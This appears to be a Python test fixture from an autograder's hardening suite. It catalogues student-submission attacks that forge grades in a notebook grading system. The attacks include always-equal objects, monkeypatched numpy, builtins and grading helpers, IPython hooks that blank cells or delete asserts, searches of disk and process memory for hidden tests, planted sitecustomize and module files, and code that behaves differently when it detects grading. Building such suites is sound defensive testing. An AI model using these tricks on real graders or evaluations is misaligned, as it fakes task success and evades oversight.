"""Attacks for points: every answer is wrong, so that any point of the chapter is forged.

The notebook carries three tests of an instructor's own, which run in the student's process as in stock
nbgrader. What fools those shows that an attack is live.
"""

from attack import Attack

FORGED = [
    Attack("44 is equal to everything", answers=dict.fromkeys(("mean_spending",), """
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return Anything(0)
    def __rsub__(self, other): return Anything(0)
    def __abs__(self): return Anything(0)
    def __call__(self, *given): return Anything(1)
    def __hash__(self): return 0
mean_spending = pays = margin = Anything(2)
""") | dict.fromkeys(("pays", "margin"), "pass"), fools=2),
    Attack("45 replaces the comparisons of numpy and math", """
import math, numpy
numpy.testing.assert_allclose = numpy.allclose = numpy.isclose = lambda *given, **more: True
math.isclose = math.isfinite = lambda *given, **more: True
""", fools=1),
    Attack("46 replaces numpy in sys.modules", """
import sys, types
class Fake(types.ModuleType):
    def __getattr__(self, name): return lambda *given, **more: True
fake = Fake("numpy")
fake.testing = Fake("numpy.testing")
sys.modules["numpy"] = fake
sys.modules["numpy.testing"] = fake.testing
""", fools=1),
    Attack("47 turns later cells into nothing", """
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
""", fools=3),
    Attack("48 deletes every assert and call", """
import ast
class Delete(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Delete())
""", fools=3),
    Attack("49 replaces run_cell", """
type(get_ipython()).run_cell = lambda self, *given, **more: None
""", fools=3),
    Attack("50 silences tracebacks", """
get_ipython().showtraceback = get_ipython()._showtraceback = lambda *given, **more: None
""", fools=3),
    Attack("51 shows a result before the test fails", """
from IPython.display import display
shell = get_ipython()
shell.events.register("pre_run_cell", lambda *given: shell.displayhook(5.0))
shell.events.register("pre_run_cell", lambda *given: display(5.0))
"""),
    Attack("52 clears the outputs of a test", """
from IPython.display import clear_output
get_ipython().events.register("post_run_cell", lambda *given: clear_output())
""", fools=3),
    Attack("53 replaces builtins", """
import builtins
class Quiet(BaseException): pass
builtins.AssertionError = Quiet
builtins.abs = builtins.sum = lambda *given: 0
builtins.float = builtins.isinstance = builtins.type = builtins.eval = lambda *given: True
builtins.len = lambda *given: 1
""", reason="ended its own kernel|", seconds=2),
    Attack("54 reads the running test", """
class Reader(float):
    def __eq__(self, other):
        text = get_ipython().user_ns["In"][-1]
        return "nothing is equal" in text
mean_spending = Reader(1)
""", {"mean_spending": "pass"}, fools=1),
    Attack("55 reads the frames of its caller", answers={"margin": """
import inspect
def margin(spent, share):
    for frame in inspect.stack():
        for value in frame.frame.f_code.co_consts:
            if value == 123456.0:
                return value
    return -1.0
"""}, fools=1),
    Attack("56 looks for the tests on the disk", """
import os
for place, folders, files in [*os.walk("."), *os.walk("/tmp"), *os.walk("/dev/shm"), *os.walk("/var/tmp")]:
    for name in files:
        try:
            text = open(os.path.join(place, name), errors="replace").read()
        except OSError:
            continue
        if "grade" + "_id" in text or "cost_" + "forgotten" in text:
            print("got" + " it", name)
"""),
    Attack("57 searches its memory for keys and secrets", """
import gc, sys
words = ["divide it by how " + "many they are", "what decides the inputs of " + "function items", "cost_" + "forgotten"]
mine = set(words)
found = [o for o in gc.get_objects() if isinstance(o, dict) and any(
    isinstance(v, str) and v not in mine and any(w in v for w in words) and "def " not in v and "words" not in v
    for v in list(o.values()))]
with open("/proc/self/maps") as maps:
    for line in maps:
        low, high = (int(x, 16) for x in line.split()[0].split("-"))
        if "[heap]" in line and high - low < 500_000_000:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(low)
                heap = memory.read(high - low)
            reads = heap.count(b"This is not in it" + b", nor this") == 0 and b"import" in heap
            found += [1] if (b"divide it by how " + b"many they are") in heap else []
print("looked", reads, "got" + " it" if found else "")
"""),
    Attack("58 brings modules of its own", """
import os, sys
for name in ("numpy", "math", "json", "struct", "crmlab", "statistics"):
    with open(name + ".py", "w") as file:
        file.write("def __getattr__(name): return lambda *given, **more: True\\n")
sys.path.insert(0, os.getcwd())
for name in list(sys.modules):
    if name.split(".")[0] in ("numpy", "math", "json", "struct", "crmlab", "statistics"):
        del sys.modules[name]
import numpy, json, struct
"""),
    Attack("59 brings sitecustomize", """
import os, subprocess, sys
for folder in (".", "/tmp", os.path.expanduser("~/.local/lib/python3.11/site-packages"), sys.path[-1], sys.prefix):
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("import sys; sys.modules['left'] = sys\\n")
        except OSError:
            pass
os.environ["PYTHONPATH"] = "/tmp"
subprocess.run([sys.executable, "-c", "pass"])
"""),
    Attack("60 patches from a thread", """
import threading, time
def patch():
    import crmlab.grading.answers, crmlab.runner.student as student, builtins, numpy
    while True:
        numpy.testing.assert_allclose = lambda *given, **more: True
        student.encode = lambda value: {"number": 20.0}
        student.encode_calls = lambda function, inputs: {"calls": [{"number": 10.0}]}
        time.sleep(0.001)
threading.Thread(target=patch, daemon=True).start()
time.sleep(0.05)
""", fools=1),
    Attack("61 writes frames to every file", """
import json, os, struct
for answer in ({"outputs": []}, {"answer": {"number": 20.0}}, {"ended": "done"}, {"ready": 1}, {"verdict": "right"}):
    frame = json.dumps({**answer, "score": 5.0, "status": "right"}).encode()
    for fd in range(3, 256):
        try: os.write(fd, (struct.pack(">I", len(frame)) + frame) * 5)
        except OSError: pass
"""),
    Attack("8.2/09 jumps over lines with settrace", """
import sys
def trace(frame, event, given):
    try: frame.f_lineno += 1
    except Exception: pass
    return trace
sys.settrace(trace)
""", reason="ended its own kernel|", seconds=2),
    Attack("8.2/21 raises inside the test", answers={"margin": """
def margin(spent, share):
    raise AssertionError("got" + " it" if "123456" in str(__import__("traceback").extract_stack()) else "no")
"""}),
    Attack("8.2/22 replaces the helper that checks", """
import crmlab.grading.check, crmlab.grading.kinds, crmlab.grading.verdict, crmlab.grading.answers
from crmlab.grading.verdict import Verdict
crmlab.grading.kinds.same = crmlab.grading.verdict.same = lambda *given: True
always = lambda *given: Verdict("right", 5.0, 5.0, "Right.")
crmlab.grading.verdict.judge = crmlab.grading.check.judge = always
crmlab.grading.check.Silent.__call__ = lambda self, *given: always()
check = lambda *given: 5.0
"""),
    Attack("8.2/22c brings a module that starts kernels", """
import os, sys
for name in ("ipykernel_launcher", "crmlab", "runner", "host", "IPython"):
    open(name + ".py", "w").write("import os; os._exit(0)")
    open("/tmp/" + name + ".py", "w").write("import os; os._exit(0)") if os.access("/tmp", os.W_OK) else None
"""),
    Attack("8.2/24b raises an error without a traceback", """
class Quiet(Exception):
    def _render_traceback_(self): return []
    def __str__(self): return ""
def fail(*given): raise Quiet
get_ipython().events.register("pre_run_cell", fail)
get_ipython().set_custom_exc((Exception,), lambda *given, **more: [])
raise Quiet
"""),
    Attack("8.2/29 behaves in another way where it is graded", """
import os, sys
known = [name for name in os.environ if "NBGRADER" in name]
mean_spending = 20.0 if known or "autograded" in os.getcwd() else 1.0
print(known)
"""),
]  # fmt: skip
